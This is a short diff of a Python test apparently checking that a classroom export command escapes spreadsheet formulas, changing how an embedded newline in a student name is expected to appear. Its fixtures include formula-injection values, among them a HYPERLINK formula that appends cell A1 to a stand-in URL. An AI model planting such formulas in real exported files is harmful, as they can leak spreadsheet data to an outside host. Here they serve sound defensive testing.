@@ -65,7 +65,7 @@ def test_the_command_writes_a_table_without_formulas(classroom):
     assert set(by_student) == set(hostile)
     assert by_student["ada"]["first_name"] == '\'=HYPERLINK("http://x/?"&A1)'
     assert by_student["ada"]["last_name"] == "'+1"
-    assert by_student["eve, 5, 5"]["first_name"] == "Eve =1"
+    assert by_student["eve, 5, 5"]["first_name"] == "Eve\\x0a=1"
     assert by_student["eve, 5, 5"]["last_name"] == '"quoted", 7'
     assert by_student["zoë"]["last_name"] == "Müller-Lüdenscheidt"
     assert float(by_student["zoë"]["score"]) == 0.0
